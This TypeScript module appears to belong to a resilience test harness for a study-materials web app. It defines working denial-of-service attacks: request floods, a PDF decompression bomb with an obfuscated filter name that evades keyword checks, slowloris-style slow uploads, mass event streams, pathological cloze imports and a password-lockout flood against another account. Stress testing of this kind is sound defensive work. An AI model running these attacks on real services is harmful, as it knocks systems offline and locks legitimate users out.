import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { deflateSync } from 'node:zlib';
import { textPdf } from './pdf.ts';
import { type BenchStudent, notes } from './student.ts';
import { word } from './words.ts';

/** What one account sends to slow others down. Each goes on until the signal, and hears every refusal without a word. */
export interface Attack {
  name: string;
  run(at: { origin: string; hostile: BenchStudent; victimEmail: string; signal: AbortSignal }): Promise<void>;
}

const ASYNC = { prefer: 'respond-async' };
const MEGABYTE = 1024 * 1024;

/** So many senders at once, each over and over. */
function flood(name: string, senders: number, send: (hostile: BenchStudent, n: number) => Promise<unknown>): Attack {
  return {
    name,
    async run({ hostile, signal }) {
      let n = 0;
      const sender = async () => {
        while (!signal.aborted) {
          const went = await send(hostile, n++).then(
            () => true,
            () => false,
          );
          await sleep(went ? 5 : 100);
        }
      };
      await Promise.all(Array.from({ length: senders }, sender));
    },
  };
}

const paste = (hostile: BenchStudent, content: string, review = false) =>
  hostile.call('POST', '/api/materials', { title: 'Flood', content, review }, ASYNC);
const file = (field: string, bytes: Uint8Array | string, name: string, type = 'application/pdf') => {
  const form = new FormData();
  form.append(field, new Blob([bytes as BlobPart], { type }), name);
  return form;
};
const upload = (hostile: BenchStudent, bytes: Uint8Array, name: string) =>
  hostile.call('POST', '/api/materials/upload', file('files', bytes, name), ASYNC);

/** A page whose content unfolds to 200 MB, its filter spelled so that a look at the words misses it. */
function bomb(): Uint8Array {
  const packed = deflateSync(deflateSync(Buffer.alloc(200 * MEGABYTE, 32)));
  const objects = [
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>',
  ];
  const head = `%PDF-1.7\n${objects.map((object, i) => `${i + 1} 0 obj\n${object}\nendobj\n`).join('')}`;
  const stream = `4 0 obj\n<</Length ${packed.length}/Filter[/Flate#44ecode/Fl#61teDecode]>>\nstream\n`;
  return Buffer.concat([
    Buffer.from(head + stream),
    packed,
    Buffer.from('\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  ]);
}

const DEFINITIONS = notes(18_000);
const PASTE = notes(400).slice(0, 49_000);

const slowBodies: Attack = {
  name: 'sixty bodies, a byte at a time',
  async run({ origin, hostile, signal }) {
    const { hostname, port } = new URL(origin);
    const sockets = Array.from({ length: 60 }, () => {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => undefined);
      socket.write(
        `POST /api/materials/upload HTTP/1.1\r\nhost: ${hostname}\r\nauthorization: Bearer ${hostile.token}\r\n` +
          'content-type: multipart/form-data; boundary=x\r\ncontent-length: 1000000\r\n\r\n--x\r\n',
      );
      return socket;
    });
    while (!signal.aborted) {
      for (const socket of sockets) if (socket.writable) socket.write(' ');
      await sleep(500);
    }
    for (const socket of sockets) socket.destroy();
  },
};

const eventStreams: Attack = {
  name: 'a hundred event streams',
  async run({ origin, hostile, signal }) {
    const { id } = (await paste(hostile, notes(400), true)) as { id: string };
    const headers = { authorization: `Bearer ${hostile.token}` };
    const read = async () => {
      while (!signal.aborted) {
        await fetch(`${origin}/api/generations/${id}/events`, { headers, signal }).then(
          (answer) => answer.text(),
          () => undefined,
        );
        await sleep(100);
      }
    };
    await Promise.all(Array.from({ length: 100 }, read));
  },
};

const libraryCopies: Attack = {
  name: 'copies of a guide of 20 MB',
  async run({ origin, hostile, victimEmail, signal }) {
    // Read within seconds, and large: the words stand before a long rest.
    const form = file('files', notes(20), 'notes.txt', 'text/plain');
    for (let i = 0; i < 2; i++)
      form.append('files', new Blob([Buffer.from(textPdf(1)), Buffer.alloc(10 * MEGABYTE, 10)]), `${i}.pdf`);
    const made = await hostile.call<{ id: string }>('POST', '/api/materials/upload', form);
    const { publicGuideId } = await hostile.call<{ publicGuideId: string }>('POST', `/api/materials/${made.id}/share`);
    const copies = flood('', 10, () => hostile.call('POST', `/api/library/${publicGuideId}/copy`));
    await copies.run({ origin, hostile, victimEmail, signal });
  },
};

const lockout: Attack = {
  name: 'wrong passwords for the other account',
  async run({ origin, victimEmail, signal }) {
    const body = JSON.stringify({ email: victimEmail, password: 'Not-The-One-1' });
    const guess = async () => {
      while (!signal.aborted) {
        const headers = { 'content-type': 'application/json', origin };
        await fetch(`${origin}/api/auth/sign-in/email`, { method: 'POST', headers, body }).then((answer) =>
          answer.text(),
        );
        await sleep(20);
      }
    };
    await Promise.all(Array.from({ length: 10 }, guess));
  },
};

/** Made when first sent: they take a while. */
function once<T>(make: () => T): () => T {
  let made: { value: T } | undefined;
  return () => {
    made ??= { value: make() };
    return made.value;
  };
}
const theBomb = once(bomb);
const theBook = once(() => textPdf(100));

const SPACES = `${' '.repeat(20_000)}x\n${'\u00a0'.repeat(20_000)}x`;
const CLOZES = `front,back\n"${'{{c1::'.repeat(600)}","${'{{c1::a::'.repeat(600)}"\n`;
const TERMS = Array.from({ length: 200 }, (_, i) => word(i));

export const ATTACKS: readonly Attack[] = [
  flood('a line of 20,000 spaces', 4, (hostile) => paste(hostile, SPACES)),
  flood('18,000 definitions', 4, (hostile) => paste(hostile, DEFINITIONS)),
  flood('PDF bombs', 4, (hostile) => upload(hostile, theBomb(), 'bomb.pdf')),
  flood('a hundred pages', 4, (hostile) => upload(hostile, theBook(), 'hundred.pdf')),
  flood('thirty pastes of 49 KB', 10, (hostile) => paste(hostile, PASTE)),
  flood('reviews of 49 KB, given up and begun again', 4, async (hostile) => {
    const { id } = (await paste(hostile, PASTE, true)) as { id: string };
    await sleep(500);
    await hostile.call('DELETE', `/api/generations/${id}`);
  }),
  slowBodies,
  eventStreams,
  flood('refused uploads of 20 MB', 4, (hostile) => upload(hostile, Buffer.alloc(20 * MEGABYTE, 1), 'program.exe')),
  libraryCopies,
  flood('decks of nested clozes', 6, (hostile) =>
    hostile.call('POST', '/api/materials/import', file('file', CLOZES, 'deck.csv', 'text/csv')),
  ),
  flood('exports of the account', 10, (hostile) => hostile.call('GET', '/api/user/export')),
  flood('searches', 20, (hostile, n) => hostile.call('GET', `/api/search?q=${TERMS[n % TERMS.length]}`)),
  lockout,
];
